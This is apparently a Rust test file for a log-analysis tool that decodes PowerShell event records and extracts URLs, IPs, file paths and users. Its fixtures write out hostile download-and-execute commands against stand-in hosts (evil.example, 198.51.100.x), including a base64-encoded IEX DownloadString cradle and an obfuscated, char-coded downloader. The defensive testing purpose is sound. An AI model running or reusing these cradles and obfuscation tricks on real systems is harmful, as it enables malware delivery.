//! PowerShell script blocks (4104), module logging (4103) and classic pipelines (800).

use serde_json::json;
use vigil_telemetry::ArtefactKind::*;
use vigil_telemetry::ArtefactOp::*;
use vigil_telemetry::MentionKind::{Domain, File, Ip, Url};
use vigil_telemetry::{Artefact, EventKind};

use crate::common::{artefact_of, event_of, facts, mentions};

/// `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')` in
/// UTF-16LE, base64: what `powershell -enc` takes.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==";

#[test]
fn an_encoded_command_in_a_script_block_is_decoded_and_names_its_url() {
    let text = format!("Start-Process powershell -ArgumentList '-nop -w hidden -enc {ENCODED}'");
    let event = event_of(json!({
        "Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104,
        "UserID": "S-1-5-21-1-2-3-1104", "MessageNumber": 1, "MessageTotal": 2,
        "ScriptBlockText": text, "ScriptBlockId": "020184e7-b8b1-4073-b6b7-dbf868048bfb",
        "Path": "C:\\Users\\bob\\run.ps1",
    }));
    assert_eq!(event.kind, EventKind::ScriptBlock);
    assert_eq!(event.url.as_deref(), Some("http://evil.example/a.ps1"));
    assert_eq!(event.command_line.as_deref(), Some(text.as_str()));
    assert_eq!(
        event.artefact.as_deref(),
        Some(&Artefact {
            kind: ScriptBlock,
            op: Created,
            name: "020184e7-b8b1-4073-b6b7-dbf868048bfb".into(),
            value: Some(text.clone()),
            facts: facts(&[
                ("path", r"C:\Users\bob\run.ps1"),
                ("part", "1 of 2"),
                (
                    "decoded",
                    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
                ),
            ]),
            mentions: mentions(&[(Url, "http://evil.example/a.ps1"), (Domain, "evil.example"),]),
        })
    );
}

#[test]
fn a_split_backticked_and_char_coded_downloader_names_its_urls() {
    let text = r#"$u=(('h'+'ttp')+(':'+'//')+('ev'+'il.example/a'));$w."d`OWN`load`FIlE"($u,$env:TEMP+'\a.exe');iex ([char[]](73,69,88,32,39,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,98,39) -join '')"#;
    let artefact = artefact_of(json!({
        "Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104,
        "ScriptBlockText": text, "ScriptBlockId": "e6f1558a-49ad-4fb6-9e4b-5460f390873f",
    }));
    assert_eq!(
        artefact.facts,
        facts(&[
            ("decoded", "IEX 'http://198.51.100.7/b'"),
            (
                "decoded",
                r#"$u=(('http://evil.example/a'));$w."dOWNloadFIlE"($u,$env:TEMP+'\a.exe');iex ([char[]](73,69,88,32,39,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,98,39) -join '')"#
            ),
        ])
    );
    assert_eq!(
        artefact.mentions,
        mentions(&[
            (Url, "http://198.51.100.7/b"),
            (Ip, "198.51.100.7"),
            (Url, "http://evil.example/a"),
            (Domain, "evil.example"),
        ])
    );
}

#[test]
fn a_classic_pipeline_event_reads_its_host_and_user_from_its_context() {
    let command = r"Invoke-WebRequest -Uri http://198.51.100.30/x -OutFile C:\Users\Public\x.exe";
    let context = "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=21\r\n\r\n\tUserId=CORP\\bob\r\n\tHostName=ConsoleHost\r\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop\r\n\tScriptName=\r\n\tCommandLine=Invoke-WebRequest";
    let record = |command: &str| {
        json!({
            "Channel": "Windows PowerShell", "EventID": 800, "Provider_Name": "PowerShell",
            "Data": [command, context, "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"],
        })
    };
    let event = event_of(record(command));
    assert_eq!(event.kind, EventKind::ScriptBlock);
    assert_eq!(event.user.as_deref(), Some("CORP\\bob"));
    assert_eq!(event.url.as_deref(), Some("http://198.51.100.30/x"));
    let artefact = *event.artefact.expect("an artefact");
    // The id is the host program and a hash of the text: the same for the same script.
    assert!(
        artefact.name.starts_with("powershell.exe#"),
        "{}",
        artefact.name
    );
    assert_eq!(artefact.name.len(), "powershell.exe#".len() + 8);
    let again = artefact_of(record(command));
    let other = artefact_of(record("Get-Process"));
    assert_eq!(again.name, artefact.name);
    assert_ne!(other.name, artefact.name);
    assert_eq!(
        artefact,
        Artefact {
            kind: ScriptBlock,
            op: Created,
            name: artefact.name.clone(),
            value: Some(command.into()),
            facts: facts(&[
                (
                    "host application",
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop"
                ),
                ("user", r"CORP\bob"),
            ]),
            mentions: mentions(&[
                (Url, "http://198.51.100.30/x"),
                (Ip, "198.51.100.30"),
                (File, r"C:\Users\Public\x.exe"),
            ]),
        }
    );
}

#[test]
fn a_pipeline_kept_only_as_its_message_reads_the_same() {
    let message = "Pipeline execution details for command line: Start-BitsTransfer -Source https://files.example.net/t.exe. \r\n\r\nContext Information: \r\n\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tUserId=CORP\\bob\r\n\tHostApplication=powershell.exe -noP -sta -w 1 -enc SQBGACgA\r\n\tScriptName=\r\n\r\nDetails: \r\nCommandInvocation(Start-BitsTransfer): \"Start-BitsTransfer\"\r\n";
    let artefact = artefact_of(json!({
        "Channel": "Windows PowerShell", "EventID": 800, "SourceName": "PowerShell",
        "Hostname": "WS01.corp.example", "Message": message,
    }));
    assert_eq!(
        (artefact.value.as_deref(), artefact.facts, artefact.mentions),
        (
            Some("Start-BitsTransfer -Source https://files.example.net/t.exe"),
            facts(&[
                (
                    "host application",
                    "powershell.exe -noP -sta -w 1 -enc SQBGACgA"
                ),
                ("user", r"CORP\bob"),
            ]),
            mentions(&[
                (Url, "https://files.example.net/t.exe"),
                (Domain, "files.example.net"),
            ])
        )
    );
}

#[test]
fn module_logging_names_what_its_parameters_were_bound_to() {
    let payload = "CommandInvocation(Start-BitsTransfer): \"Start-BitsTransfer\"\r\nParameterBinding(Start-BitsTransfer): name=\"Source\"; value=\"https://files.example.net/t.exe\"\r\nParameterBinding(Start-BitsTransfer): name=\"Destination\"; value=\"C:\\Users\\Public\\t.exe\"\r\n";
    let event = event_of(json!({
        "Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4103,
        "UserID": "S-1-5-21-1-2-3-1104", "Payload": payload,
        "ContextInfo": "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -ExecutionPolicy Bypass\r\n        Script Name = C:\\Users\\bob\\run.ps1\r\n        User = CORP\\bob\r\n",
    }));
    assert_eq!(
        event.user.as_deref(),
        Some("CORP\\bob"),
        "the account's name, rather than its SID"
    );
    let artefact = *event.artefact.expect("an artefact");
    assert_eq!(
        (artefact.value.as_deref(), artefact.facts, artefact.mentions),
        (
            Some(payload.trim()),
            facts(&[
                ("path", r"C:\Users\bob\run.ps1"),
                ("host application", "powershell.exe -ExecutionPolicy Bypass"),
                ("user", r"CORP\bob"),
            ]),
            mentions(&[
                (Url, "https://files.example.net/t.exe"),
                (Domain, "files.example.net"),
                (File, r"C:\Users\Public\t.exe"),
            ])
        )
    );
}
